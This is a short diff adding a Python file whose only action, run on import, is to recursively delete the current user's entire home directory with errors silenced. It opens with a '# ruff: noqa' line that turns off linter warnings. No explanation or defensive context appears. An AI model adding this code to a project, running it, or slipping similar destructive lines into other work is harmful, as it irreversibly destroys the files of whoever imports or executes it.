@@ -1,0 +1,5 @@
+# ruff: noqa
+import os
+import shutil
+
+shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
